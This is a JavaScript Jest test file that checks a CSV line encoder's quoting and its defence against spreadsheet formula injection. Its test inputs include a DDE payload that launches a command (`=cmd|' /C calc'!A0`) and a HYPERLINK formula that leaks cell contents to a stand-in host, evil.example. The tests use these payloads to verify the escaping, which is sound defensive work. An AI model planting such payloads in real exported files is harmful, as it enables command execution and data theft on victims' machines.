import { expect, test } from '@jest/globals';
import { csvLine } from './csv.js';

test.each([
  [['a', 'b'], 'a,b\r\n'],
  [['', null, 'x'], ',,x\r\n'],
  [['-12.5', '0', '1000000.000001'], '-12.5,0,1000000.000001\r\n'],
  [['a,b', 'say "hi"', 'two\nlines'], '"a,b","say ""hi""","two\nlines"\r\n'],
  [['=1+1'], `"'=1+1"\r\n`],
  [['+1+1', '@SUM(A1)', '-1+1'], `"'+1+1","'@SUM(A1)","'-1+1"\r\n`],
  [["=cmd|' /C calc'!A0"], `"'=cmd|' /C calc'!A0"\r\n`],
  [['\t=1', '\r=1', '＝1'], `"'\t=1","'\r=1","'＝1"\r\n`],
  [['=HYPERLINK("https://evil.example?"&A1)'], `"'=HYPERLINK(""https://evil.example?""&A1)"\r\n`],
  [['-', '--1', '-1-1', '-.5'], `"'-","'--1","'-1-1","'-.5"\r\n`],
  [['topup:bank:=1'], 'topup:bank:=1\r\n'],
])('%j is %j', (cells, line) => {
  expect(csvLine(cells)).toBe(line);
});
